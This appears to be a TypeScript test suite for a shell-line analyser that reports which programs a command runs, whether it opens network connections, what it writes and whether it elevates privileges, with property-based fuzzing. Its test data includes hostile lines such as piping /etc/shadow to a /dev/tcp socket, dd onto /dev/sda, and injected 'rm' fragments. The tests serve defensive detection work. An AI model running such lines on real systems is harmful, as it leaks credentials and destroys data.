import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandFacts } from '../../../gateway-core/codec/shell/facts.js';
import { shellLimits } from '../../../gateway-core/codec/shell/limits.js';
import { randomOf, seedOfRun } from '../../sim/random.js';

/** Lines as people and tools write them, with exactly the programs that they run. Nothing of them is unknown. */
const ordinary: readonly (readonly [line: string, programs: readonly string[]])[] = [
  ['', []],
  ['# a comment', []],
  ['ls -la /var/log', ['ls']],
  ['cd /srv && ls', ['cd', 'ls']],
  ['ps aux | grep -v root | sort -k3 -n | head -5', ['ps', 'grep', 'sort', 'head']],
  ['df -h; free -m; uptime', ['df', 'free', 'uptime']],
  ['tail -n 100 "$HOME/app log"', ['tail']],
  ['for f in *.log; do gzip "$f"; done', ['gzip']],
  ['if [ -f x ]; then cat x; else echo none; fi', ['[', 'cat', 'echo']],
  ['x=1; echo "$x"', ['echo']],
  ['LC_ALL=C sort f', ['sort']],
  ['LANG=de_DE.UTF-8 LC_TIME= TZ=Europe/Berlin date', ['date']],
  ['LANG=C; export LANG; sort f', ['export', 'sort']],
  ['COLUMNS=200 ps aux; SECONDS=0', ['ps']],
  ['sudo -u www ls', ['sudo', 'ls']],
  ["awk '{print $1 || $2}' f", ['awk']],
  ["sed -n '1,5p;s/a/b/g' f", ['sed']],
  ['tar czf "/tmp/$x.tgz" /srv/*', ['tar']],
  ['tar czf /tmp/x.tgz /srv/x', ['tar']],
  ['find . -name "*.log" -mtime +5', ['find']],
  ['find . -type f -print0 | xargs -0 wc -l', ['find', 'xargs', 'wc']],
  ['bash -c "ls -l"', ['bash', 'ls']],
  ['f() { ls; }; f; f', ['ls']],
  ['echo $((1 + 2))', ['echo']],
  ['test -d x || mkdir -p x', ['test', 'mkdir']],
  ['cat <<E\n$HOME\nE', ['cat']],
  ['python3 --version', ['python3']],
  ['set -euo pipefail; ls', ['set', 'ls']],
  ['/usr/bin/ls', ['ls']],
  ['echo a > /tmp/x 2>&1', ['echo']],
  ['timeout 5 ls', ['timeout', 'ls']],
  ['journalctl --no-pager -u nginx', ['journalctl']],
  ['rsync -a /srv/x /srv/y', ['rsync']],
  ['chrt -f 5 ls', ['chrt', 'ls']],
  ['[ "$x" = y ] && [ $? -eq 0 ] || exit 1', ['[', 'exit']],
  ['[ -f "$x" -a -d ~/y ]; test -n "$x"; exit $?', ['[', 'test', 'exit']],
  ["printf '%s %q: %-10s%%\\n' $x; printf '%05d' 7 $#", ['printf']],
  ['ulimit -c unlimited; read -t 5 x; shift 2', ['ulimit', 'read', 'shift']],
  ['command -v ls', ['command']],
];

describe('what a line runs', () => {
  it.each(ordinary)('%j runs %j and nothing unknown', (line, programs) => {
    const facts = commandFacts(line);
    expect(facts.programs).toEqual(programs);
    expect(facts.unknown).toEqual([]);
  });

  it('a path is given as it was written, and its last part as the program', () => {
    const facts = commandFacts('/usr/bin/ls; ./x/y; ls');
    expect(facts.paths).toEqual(['/usr/bin/ls', './x/y']);
    expect(facts.programs).toEqual(['ls', 'y']);
    expect(facts.unknown).toEqual(['remote']);
  });

  it.each([
    ['cat < /dev/tcp/10.0.0.1/80', true],
    ['cat < /dev/udp/10.0.0.1/80', true],
    ['cat /etc/shadow > /dev/tcp/10.0.0.1/80', true],
    ['cat 3<> "/dev/t"cp/h/1', true],
    ['exec 3<>/dev/tcp/h/1', true],
    ['x=/dev/tcp/h/1; cat < $x', true],
    ['x=tcp/h/1; cat < "/dev/$x"', true],
    ['cat > "$x"', true],
    ['cat < "/dev/tcp/$h/80"', true],
    ['cat < "/var/log/$x"', false],
    ['cat < ~/x', false],
    ['cat < /dev/null 2>&1 >&2 <&0', false],
    ['cat <<E\n/dev/tcp/h/1\nE', false],
    ['ls /dev/tcp/h/1', false],
  ])('%j connects to another machine by itself, or may: %j', (line, connects) => {
    expect(commandFacts(line).unknown.includes('remote')).toBe(connects);
  });

  it.each([
    ['ls > a >> b 2>| c <> d', ['a', 'b', 'c', 'd'], false],
    ['ls &> a', ['a'], false],
    ['ls >& a', ['a'], false],
    ['ls 2>&1 >&- < x', [], false],
    ['{ ls; } > a', ['a'], false],
    ["ls > 'a b'", ['a b'], false],
    ['ls > $x', [], true],
    ['ls > ~/x', [], true],
    ['find . -delete', [], true],
    ['ls | tee -a a b', ['a', 'b'], false],
    ['dd if=x of=/dev/sda bs=1', ['/dev/sda'], false],
    ['dd $x', [], true],
    ['dd of=$x', [], true],
    ['find . -fprint a', ['a'], false],
    ['sort -o a b', ['a'], false],
    ['curl -sSLo a http://x', ['a'], false],
    ['sed -i p a', ['a'], false],
    ['exec 3<>/dev/tcp/h/1', ['/dev/tcp/h/1'], false],
  ])('%j writes %j', (line, writes, writesUnknown) => {
    expect(commandFacts(line)).toMatchObject({ writes, writesUnknown });
  });

  it('who runs as somebody else is told, wherever it stands', () => {
    for (const line of ['sudo ls', 'echo $(su -c ls)', 'nohup doas ls', "sh -c 'pkexec ls'", 'chroot / ls']) {
      expect(commandFacts(line).elevated, line).toBe(true);
    }
    expect(commandFacts('ls').elevated).toBe(false);
  });

  it('bytes are read as UTF-8, and what is not UTF-8 is syntax', () => {
    expect(commandFacts(Buffer.from('ls é')).unknown).toEqual([]);
    expect(commandFacts(Buffer.from([0x6c, 0x73, 0x20, 0xff])).unknown).toEqual(['syntax']);
  });

  it('history and comments are the typing shell’s', () => {
    for (const line of ['!!', 'ls !$', 'ls\n^a^rm'])
      expect(commandFacts(line, true).unknown).toContain('dynamic-script');
    expect(commandFacts('ls # ; rm x', true).unknown).toEqual(['dialect']);
    expect(commandFacts('! ls; [ a != b ]', true).unknown).toEqual([]);
    expect(commandFacts('ls !!').unknown).toEqual([]);
  });
});

type Tree =
  | { readonly kind: 'program'; readonly name: string; readonly arguments: readonly string[] }
  | { readonly kind: 'join'; readonly by: string; readonly trees: readonly Tree[] }
  | { readonly kind: 'around'; readonly around: readonly [string, string]; readonly tree: Tree }
  | {
      readonly kind: 'launched';
      readonly by: string;
      readonly name: string;
    }
  | { readonly kind: 'shell'; readonly tree: Tree }
  | {
      readonly kind: 'inside';
      readonly name: string;
      readonly around: readonly [string, string];
      readonly tree: Tree;
    };

const names = fc.constantFrom('rm', 'ls', 'cp', 'mv', 'cat', 'chmod', 'kill', 'mkfs', 'shutdown', 'userdel');
const words = fc.constantFrom(
  '-rf',
  'x',
  '/etc/passwd',
  'a b',
  "it's",
  'say "hi"',
  '$x',
  '`rm`',
  '; rm',
  '#rm',
  '*',
  '\\',
  '\n',
  'é',
  '',
);
const oneOf = (...pairs: readonly (readonly [string, string])[]) => fc.constantFrom(...pairs);
const { tree } = fc.letrec<{ tree: Tree }>((tie) => ({
  tree: fc.oneof(
    { maxDepth: 5 },
    fc.record({
      kind: fc.constant('program' as const),
      name: names,
      arguments: fc.array(words, { maxLength: 3 }),
    }),
    fc.record({
      kind: fc.constant('join' as const),
      by: fc.constantFrom(' ; ', '\n', ' | ', ' && ', ' || ', ' & '),
      trees: fc.array(tie('tree'), { minLength: 1, maxLength: 3 }),
    }),
    fc.record({
      kind: fc.constant('around' as const),
      around: oneOf(
        ['( ', ' )'],
        ['{ ', '\n}'],
        ['if ', '\nthen :; fi'],
        ['while :; do ', '\ndone'],
        ['for i in a b; do ', '\ndone'],
        ['case a in b) :;; *) ', '\nesac'],
      ),
      tree: tie('tree'),
    }),
    fc.record({
      kind: fc.constant('launched' as const),
      by: fc.constantFrom('nohup ', 'nice -n 5 ', 'env -u A ', 'timeout -k 1 5 ', 'setsid -w nohup '),
      name: names,
    }),
    fc.record({ kind: fc.constant('shell' as const), tree: tie('tree') }),
    fc.record({
      kind: fc.constant('inside' as const),
      name: names,
      around: oneOf(
        ['$(', '\n)'],
        ['"$(', '\n)"'],
        ['"${y:-$(', '\n)}"'],
        ['<(', '\n)'],
        ['> /dev/null "$(', '\n)"'],
      ),
      tree: tie('tree'),
    }),
  ),
}));

function programsOf(each: Tree, into: Set<string>): Set<string> {
  if (each.kind === 'program') into.add(each.name);
  else if (each.kind === 'join') for (const inner of each.trees) programsOf(inner, into);
  else {
    if (each.kind === 'launched') {
      for (const name of each.by.split(' '))
        if (/^(nohup|nice|env|timeout|setsid)$/.test(name)) into.add(name);
      into.add(each.name);
      return into;
    }
    if (each.kind === 'shell') into.add('sh');
    if (each.kind === 'inside') into.add(each.name);
    if (each.kind === 'around' && /:/.test(each.around.join(''))) into.add(':');
    programsOf(each.tree, into);
  }
  return into;
}

/** The words in one of many ways that mean the same to every shell. */
function rendered(each: Tree, random: () => number): string {
  switch (each.kind) {
    case 'program':
      return [quoted(each.name, random), ...each.arguments.map((word) => quoted(word, random))].join(' ');
    case 'join':
      return each.trees.map((inner) => `{ ${rendered(inner, random)}\n}`).join(each.by);
    case 'around':
      return each.around[0] + rendered(each.tree, random) + each.around[1];
    case 'launched':
      return (
        each.by
          .split(' ')
          .map((word) => (word === '' ? '' : quoted(word, random)))
          .join(' ') + quoted(each.name, random)
      );
    case 'shell':
      return `${quoted('sh', random)} ${quoted('-c', random)} ${quoted(rendered(each.tree, random), random)}`;
    case 'inside':
      return `${quoted(each.name, random)} ${each.around[0]}${rendered(each.tree, random)}${each.around[1]}`;
  }
}

/** One word: each character bare, behind a backslash, in single or in double quotes. */
function quoted(word: string, random: () => number): string {
  if (word === '') return random() < 0.5 ? "''" : '""';
  if (word.length > 40) return `'${word.replaceAll("'", "'\\''")}'`;
  let text = '';
  for (const character of word) {
    const way = random();
    const bare = /[a-z0-9/-]/.test(character);
    if (bare && way < 0.5) text += character;
    else if (character !== "'" && way < 0.7) text += `'${character}'`;
    else if (character === '\n' || way >= 0.85) text += `"${character.replace(/["$`\\]/, '\\$&')}"`;
    else text += `\\${character}`;
    if (random() < 0.05) text += '\\\n';
  }
  return text;
}

describe('laws over all lines', () => {
  it('whatever the quoting, the programs found are exactly those that were written', () => {
    const seed = seedOfRun();
    fc.assert(
      fc.property(tree, fc.nat(), (each, quoting) => {
        const line = rendered(each, randomOf(quoting));
        const facts = commandFacts(line);
        const deep = facts.unknown.includes('too-long');
        // Letters that are escaped without need, and backslashes in quotes, are others to fish.
        const known = /\\[A-Za-z0-9']/.test(line) ? ['too-long', 'dialect'] : ['too-long'];
        expect(
          facts.unknown.filter((why) => !known.includes(why)),
          line,
        ).toEqual([]);
        if (!deep) expect(new Set(facts.programs), line).toEqual(programsOf(each, new Set()));
      }),
      { numRuns: 1000, seed },
    );
  });

  const pieces = [
    'rm',
    ' ',
    '$(',
    ')',
    '`',
    '"',
    "'",
    '\\',
    '${a:-',
    '}',
    '((',
    '))',
    '[[',
    ']]',
    '<<E\n',
    '\nE\n',
    '{',
    ';',
    '|',
    '&',
    '>',
    '<(',
    'case ',
    ' in ',
    ';;',
    'esac',
    'a=',
    'a[',
    ']',
    "$'",
    '$',
    '\n',
    'eval ',
    "sh -c '",
    'sudo ',
    '-',
    '~',
    '*',
    '{a,',
    '\u0000',
    '\uD800',
    'é',
  ];

  it('no text makes it throw, and its lists stay within their bounds', () => {
    const seed = seedOfRun();
    const random = randomOf(seed);
    for (let round = 0; round < 4000; round += 1) {
      let line = '';
      for (let left = Math.floor(random() * 40); left > 0; left -= 1)
        line += pieces[Math.floor(random() * pieces.length)];
      const facts = commandFacts(line, random() < 0.5);
      expect(facts.programs.length, `seed ${seed} round ${round}`).toBeLessThanOrEqual(shellLimits.namesMax);
    }
  });

  it('what is too deep, too long or too much is said to be, whichever piece is repeated', () => {
    for (const piece of [
      ...pieces,
      '$(echo ',
      'nohup ',
      '"${a:-',
      '1+',
      '((1+',
      'if ',
      'a|',
      'f(){ ',
      'rm;',
      'a=b ',
      '>x ',
      'x() { x; }; ',
      '\\\n',
      '<<E ',
      "eval '",
    ]) {
      const facts = commandFacts(piece.repeat(Math.floor(60_000 / piece.length)));
      expect(facts.programs.length).toBeLessThanOrEqual(shellLimits.namesMax);
    }
    const nested = 100;
    for (const line of [
      `${'$(echo '.repeat(nested)}rm x${')'.repeat(nested)}`,
      `${'nohup '.repeat(nested)}rm x`,
      `${'eval '.repeat(nested)}rm x`,
      Array.from({ length: 400 }, (_, index) => `p${index}`).join(';'),
    ]) {
      expect(commandFacts(line).unknown).toContain('too-long');
    }
  });
});
